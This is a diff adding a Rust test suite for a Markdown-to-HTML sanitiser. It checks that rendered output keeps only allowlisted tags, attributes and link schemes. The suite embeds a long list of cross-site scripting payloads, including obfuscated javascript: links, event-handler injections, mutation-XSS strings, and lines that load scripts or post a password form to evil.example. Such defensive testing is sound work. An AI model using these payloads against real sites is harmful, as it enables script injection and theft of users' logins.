@@ -1,0 +1,252 @@
+//! What comes out is looked at as a browser would see it: element by element, attribute by attribute.
+
+use std::time::{Duration, Instant};
+
+use proptest::prelude::*;
+
+use super::*;
+
+/// An element of the output, with its attributes as written.
+#[derive(Debug)]
+struct Element {
+    name: String,
+    attributes: Vec<(String, String)>,
+}
+
+/// The opening tags of sanitised HTML. The serialiser escapes `<` in text and `"` in attributes, so a plain scan sees them all.
+fn elements(html: &str) -> Vec<Element> {
+    let mut found = Vec::new();
+    for piece in html.split('<').skip(1) {
+        let Some((tag, _)) = split_tag(piece) else { panic!("an open tag without end: {piece}") };
+        if tag.starts_with('/') {
+            continue;
+        }
+        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
+        let mut attributes = Vec::new();
+        while let Some((key, value)) = rest.trim_start().split_once("=\"") {
+            let (value, after) = value.split_once('"').expect("a closed attribute");
+            attributes.push((key.to_owned(), value.to_owned()));
+            rest = after;
+        }
+        assert_eq!(rest.trim(), "", "leftovers in <{tag}>");
+        found.push(Element { name: name.to_owned(), attributes });
+    }
+    found
+}
+
+fn split_tag(piece: &str) -> Option<(&str, &str)> {
+    let mut quoted = false;
+    let end = piece.find(|c| {
+        quoted ^= c == '"';
+        c == '>' && !quoted
+    })?;
+    Some((&piece[..end], &piece[end + 1..]))
+}
+
+const TAGS: &[&str] = &[
+    "a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong", "sup",
+    "table", "tbody", "td", "th", "thead", "tr", "ul",
+];
+const ATTRIBUTES: &[&str] =
+    &["aria-labelledby", "class", "href", "id", "rel", "role", "scope", "start", "tabindex", "title"];
+
+fn assert_harmless(source: &str) {
+    let html = render(source).html;
+    for element in elements(&html) {
+        assert!(TAGS.contains(&element.name.as_str()), "<{}> from {source:?}: {html}", element.name);
+        for (key, value) in &element.attributes {
+            assert!(ATTRIBUTES.contains(&key.as_str()), "{key} from {source:?}: {html}");
+            match key.as_str() {
+                "href" => assert_harmless_link(value, source),
+                "id" => assert!(value.starts_with("s") || value.starts_with("note"), "id {value} from {source:?}"),
+                _ => {}
+            }
+        }
+        if element.name == "a" && element.attributes.iter().any(|(key, _)| key == "href") {
+            let rel = element.attributes.iter().find(|(key, _)| key == "rel");
+            assert_eq!(rel.map(|(_, value)| value.as_str()), Some("noopener nofollow"), "{source:?}");
+        }
+    }
+    assert_eq!(POLICY.clean(&html).to_string(), html, "cleaning again changes nothing: {source:?}");
+}
+
+/// As a browser reads it: entities resolved, white space and control characters dropped, case ignored.
+fn assert_harmless_link(href: &str, source: &str) {
+    let read: String = href
+        .replace("&amp;", "&")
+        .replace("&quot;", "\"")
+        .chars()
+        .filter(|c| !c.is_control() && !c.is_whitespace())
+        .flat_map(char::to_lowercase)
+        .collect();
+    let scheme = read.split(['/', '?', '#']).next().and_then(|start| start.split_once(':')).map(|(scheme, _)| scheme);
+    assert!(scheme.is_none_or(|scheme| ["http", "https", "mailto", "tel"].contains(&scheme)), "{href} from {source:?}");
+}
+
+const ATTACKS: &[&str] = &[
+    // Script, plainly and in disguise.
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "text <script>alert(1)</script> text",
+    "<<script>script>alert(1)<</script>/script>",
+    "<script\u{0}>alert(1)</script>",
+    "<script/x>alert(1)</script >",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "# <script>alert(1)</script>",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
+    "a[^1]\n\n[^1]: <script>alert(1)</script>",
+    "a[^<script>]\n\n[^<script>]: b",
+    // Event handlers.
+    "<img src=x onerror=alert(1)>",
+    "<p onclick=\"alert(1)\">x</p>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>x</div>",
+    "[x](https://a.example \"onmouseover=alert(1)\")",
+    "[x](https://a.example '\" onmouseover=\"alert(1)')",
+    "[x](https://a.example/\"onmouseover=alert(1))",
+    "![x\" onerror=\"alert(1)](x)",
+    // Links that run.
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](&Tab;javascript:alert(1))",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](<\u{0}javascript:alert(1)>)",
+    "[x](%6Aavascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://a.example/1)",
+    "[x](view-source:javascript:alert(1))",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "<https://a.example/?\"onclick=alert(1)>",
+    // Pictures and frames.
+    "![x](javascript:alert(1))",
+    "![x](https://tracker.example/pixel.gif)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=//evil.example/x.swf>",
+    // Foreign content and styles.
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math href=javascript:alert(1)>x</math>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=password><button>x</button></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    // Broken nesting and comments.
+    "<b><i></b></i><div></p></div></div></div>",
+    "</div></main></body></html><script>alert(1)</script>",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><script>alert(1)</script>",
+    "<a href=\"x\" <b>y",
+    "**bold <i>*both** </i>*",
+    "- a\n  > b\n    1. <table><tr><td>c",
+    // Names a page's script might look up.
+    "# getElementById\n\n## __proto__\n\n<a id=location name=body>x</a>",
+    "[x](//evil.example \"t\"){#id .class onclick=alert(1)}",
+    "# x {#csrf .c onclick=alert(1)}",
+];
+
+#[test]
+fn what_is_meant_to_harm_comes_out_harmless() {
+    assert!(ATTACKS.len() >= 40);
+    for attack in ATTACKS {
+        assert_harmless(attack);
+    }
+}
+
+#[test]
+fn raw_html_is_shown_as_it_was_typed() {
+    let html = render("a <b>c</b>\n\n<script>alert(1)</script>").html;
+    assert!(html.contains("&lt;b&gt;c&lt;/b&gt;"), "{html}");
+    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
+}
+
+#[test]
+fn deep_nesting_costs_little() {
+    let deep: [String; 8] = [
+        ">".repeat(10_000) + "x",
+        "> ".repeat(10_000) + "x",
+        "- ".repeat(10_000) + "x",
+        "*".repeat(10_000) + "x" + &"*".repeat(10_000),
+        "*a ".repeat(10_000),
+        "[".repeat(10_000) + &"](x)".repeat(10_000),
+        "<div>".repeat(10_000),
+        "`".repeat(20_000) + "x",
+    ];
+    for source in &deep {
+        let started = Instant::now();
+        assert_harmless(source);
+        assert!(started.elapsed() < Duration::from_secs(5), "{:?} for {}…", started.elapsed(), &source[..10]);
+    }
+}
+
+#[test]
+fn the_highest_heading_is_the_second_and_anchors_are_unique() {
+    for source in ["# Mục đích\n\n## Yêu cầu\n\n# Mục đích", "## Mục đích\n\n### Yêu cầu\n\n## Mục đích"] {
+        let rendered = render(source);
+        let found: Vec<_> = rendered.contents.iter().map(|heading| (heading.anchor.as_str(), heading.level)).collect();
+        assert_eq!(found, [("s-muc-dich", 2), ("s-yeu-cau", 3), ("s-muc-dich-2", 2)]);
+        for (anchor, level) in found {
+            assert!(rendered.html.contains(&format!("<h{level} id=\"{anchor}\">")), "{}", rendered.html);
+        }
+    }
+}
+
+#[test]
+fn a_heading_of_emphasis_and_code_has_its_plain_title() {
+    let rendered = render("## Về **số hóa** và `mã`");
+    assert_eq!(rendered.contents[0].title, "Về số hóa và mã");
+    assert_eq!(rendered.contents[0].anchor, "s-ve-so-hoa-va-ma");
+}
+
+#[test]
+fn a_table_scrolls_says_its_heads_and_aligns() {
+    let html = render("## Chỉ tiêu\n\n| Tên | Số |\n|---|--:|\n| a | 1 |").html;
+    assert!(html.contains("aria-labelledby=\"s-chi-tieu\""), "{html}");
+    for part in ["class=\"table-scroll\"", "tabindex=\"0\"", "role=\"region\"", "scope=\"col\"", "<td class=\"align-right\">1</td>"] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+    assert!(!html.contains("style="), "{html}");
+}
+
+#[test]
+fn links_footnotes_and_lists_work() {
+    let html = render("[a](https://a.example) [b](tel:113)[^1]\n\n3. c\n4. d\n\n~~e~~\n\n[^1]: f").html;
+    assert!(html.contains("href=\"https://a.example\""), "{html}");
+    assert!(html.contains("href=\"tel:113\""), "{html}");
+    assert!(html.contains("href=\"#note-1\"") && html.contains("id=\"note-1\""), "{html}");
+    assert!(html.contains("<ol start=\"3\">") && html.contains("<del>e</del>"), "{html}");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn no_text_at_all_comes_out_harmful(source in "[-<>\"'`*_#|\\[\\](){}!&;:=/ \na-z0-9]{0,120}") {
+        assert_harmless(&source);
+    }
+
+    #[test]
+    fn no_mixture_of_attacks_comes_out_harmful(picks in proptest::collection::vec(0..ATTACKS.len(), 1..6), glue in "[ \n>|*]{0,2}") {
+        let parts: Vec<_> = picks.into_iter().map(|at| ATTACKS[at]).collect();
+        assert_harmless(&parts.join(&glue));
+    }
+}
